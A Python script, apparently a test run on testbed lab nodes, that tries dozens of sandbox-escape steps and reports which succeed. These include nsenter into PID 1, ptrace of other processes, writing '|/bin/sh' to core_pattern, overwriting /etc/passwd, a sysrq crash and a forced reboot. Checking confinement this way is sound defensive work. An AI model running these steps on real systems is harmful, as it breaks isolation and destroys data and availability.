"""What a program on a node tries, to find out what is wrong or to end the lab: a JSON object a line, `name` and `got`.

`got` is empty for an attack that failed, and what it brought else.
"""

import contextlib
import ctypes
import json
import os
import subprocess
import sys
from collections.abc import Callable

libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWPID, NEWNET = 0x20000, 0x10000000, 0x20000000, 0x40000000
HERE, PROGRAM = "/root", "/root/x"
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
NUMBERS = {
    "ptrace": 101, "iopl": 172, "reboot": 169, "init_module": 175, "perf_event_open": 298, "open_by_handle_at": 304,
    "kexec_load": 246, "bpf": 321, "swapon": 167, "settimeofday": 164, "sethostname": 170, "syslog": 103, "acct": 163,
    "mount": 165, "pivot_root": 155, "userfaultfd": 323, "fsopen": 430, "open_tree": 428,
}  # fmt: skip


def call(name: str, *arguments: object) -> str:
    """Something if the kernel carries out a system call."""
    ctypes.set_errno(0)
    result = libc.syscall(NUMBERS[name], *arguments)
    return f"{name} returned {result}" if result >= 0 else ""


def shell(command: str) -> str:
    """Something if a command succeeds, with what it printed."""
    done = subprocess.run(["sh", "-c", command], capture_output=True, text=True, timeout=60, check=False)
    return "" if done.returncode else f"{command}: {done.stdout}{done.stderr}"[:300] or command


def prints(command: str) -> str:
    """Something if a command prints something."""
    done = subprocess.run(["sh", "-c", command], capture_output=True, text=True, timeout=60, check=False)
    return done.stdout[:300]


def read(path: str) -> str:
    try:
        with open(path, "rb") as file:
            return file.read(100).hex()
    except OSError:
        return ""


def write(path: str, text: str) -> str:
    try:
        with open(path, "w") as file:
            file.write(text)
    except OSError:
        return ""
    return f"{path} was written"


def others() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def beside(process: int) -> str:
    """What another process, which this one did not start, shows: memory, environment, files, or its control."""
    found = []
    for name in "mem", "environ", "maps", "auxv", "stack", "syscall":
        with contextlib.suppress(OSError), open(f"/proc/{process}/{name}", "rb") as file:
            if name == "mem" or file.read(1):
                found.append(name)
    for name in "root", "cwd", "exe", "ns/mnt":
        with contextlib.suppress(OSError):
            found.append(os.readlink(f"/proc/{process}/{name}"))
    found += filter(None, (call("ptrace", kind, process, 0, 0) for kind in (PTRACE_ATTACH, PTRACE_SEIZE)))
    return ", ".join(found)


def of_others() -> str:
    parents = {os.getpid(), os.getppid()}
    return "; ".join(f"{one}: {found}" for one in others() if one not in parents and (found := beside(one)))


def mapped_devices() -> str:
    """A device of memory, or a disk, by its number: of those that this machine has."""
    for major, minor in (1, 1), (1, 2), (1, 4), (1, 11), (259, 0), (259, 1), (259, 2), (10, 144):
        for kind in 0o060000, 0o020000:
            with contextlib.suppress(PermissionError):
                os.mknod(f"{HERE}/device", kind | 0o600, os.makedev(major, minor))
                return f"device {major}:{minor}"
    return ""


def imports() -> str:
    done = subprocess.run([sys.executable, "-c", "import testbed; print(testbed)"], capture_output=True, check=False)
    return done.stdout.decode()


ATTACKS: dict[str, Callable[[], str]] = {
    "unshare": lambda: "".join(
        f"unshare {kind:x}" for kind in (NEWNS, NEWUSER, NEWPID, NEWNET) if libc.unshare(kind) == 0
    ),
    "unshare as nobody": lambda: shell("su -s /bin/sh nobody -c 'unshare -Ur true'"),
    "mount": lambda: call("mount", b"tmpfs", b"/mnt", b"tmpfs", 0, None),
    "mount by its newer calls": lambda: call("fsopen", b"proc", 0) + call("open_tree", -100, b"/", 1),
    "remount": lambda: shell("mount -o remount,rw,bind /usr"),
    "umount": lambda: shell("umount -l /proc/sys"),
    "pivot_root": lambda: call("pivot_root", b".", b"."),
    "chroot": lambda: shell("chroot / true"),
    "nsenter": lambda: "".join(shell(f"nsenter -t 1 -{kind} true") for kind in "mnpiu"),
    "network namespaces": lambda: shell("ip netns exec $(ls /run/netns | head -1) true") + shell("ip netns add x"),
    "ptrace, and files of other processes": of_others,
    "memory devices": mapped_devices,
    "disks": lambda: prints("ls /dev | grep -E 'pmem|nmem|^mem|port|kmsg|ndctl|sd|vd|loop'"),
    "kernel memory": lambda: read("/proc/kcore"),
    "modprobe": lambda: shell("modprobe nbd") + call("init_module", None, 0, None),
    "kernel log": lambda: shell("dmesg") + call("syslog", 3, ctypes.create_string_buffer(100), 100),
    "kexec": lambda: call("kexec_load", 0, 0, None, 0),
    "perf": lambda: call("perf_event_open", bytes(128), 0, -1, -1, 0),
    "BPF programs": lambda: "".join(shell(f"bpftool {what}") for what in ("prog", "map", "link", "btf")),
    "BPF, all its commands": lambda: "".join(call("bpf", number, bytes(128), 128) for number in range(0, 40)),
    "BPF file system": lambda: prints("ls /sys/fs/bpf"),
    "debugfs and tracing": lambda: prints("ls -A /sys/kernel/debug; ls -A /sys/kernel/tracing"),
    "control groups": lambda: prints("ls /sys/fs/cgroup") + shell("mount -t cgroup2 x /mnt"),
    "release_agent": lambda: prints("find /sys/fs /run /mnt -name release_agent"),
    "core_pattern": lambda: write("/proc/sys/kernel/core_pattern", "|/bin/sh"),
    "modprobe's path": lambda: write("/proc/sys/kernel/modprobe", PROGRAM),
    "user namespaces": lambda: write("/proc/sys/user/max_user_namespaces", "100"),
    "uevent_helper": lambda: write("/sys/kernel/uevent_helper", PROGRAM),
    "ports": lambda: call("iopl", 3),
    "files by handle": lambda: "" if not shell("true") else call("open_by_handle_at", -100, bytes(64), 0),
    "swap, clock, name, accounting": lambda: (
        "".join((call("swapon", b"/root", 0), call("settimeofday", bytes(16), None), call("sethostname", b"x", 1)))
        + call("acct", b"/root/x")
    ),
    "setcap": lambda: shell("cp /bin/true true; setcap cap_sys_admin+ep true"),
    "a set-user-ID program": lambda: prints("setpriv --bounding-set=+all grep CapBnd /proc/self/status | grep 1ff"),
    "code of testbed": imports,
    "files of testbed": lambda: prints(
        "ls -A /usr/lib/testbed /run/testbed/in /run/testbed/code 2>/dev/null | grep -v :"
    ),
    "sockets of the machine": lambda: prints(
        "find /run /tmp /var -name '*.sock' -not -path '/run/frr/*' 2>/dev/null; "
        "ls /var/run/docker.sock /run/docker* 2>/dev/null"
    ),
    "programs of others": lambda: (
        "".join(write(path, "x") for path in ("/usr/bin/tc", "/etc/passwd", "/usr/lib/frr/x", "/lib/x"))
        + prints("find /run/testbed /run/frr -type f | while read f; do (echo >>$f) 2>/dev/null && echo $f; done")
    ),
    "real-time priority": lambda: shell("chrt -f 50 true"),
    "sysrq": lambda: (write("/proc/sysrq-trigger", "c"), "")[1],
    "reboot": lambda: call("reboot", 0xFEE1DEAD, 672274793, 0x1234567, 0) + shell("reboot -f"),
}

for name, attack in ATTACKS.items():
    print(json.dumps({"name": name, "got": attack()}), flush=True)
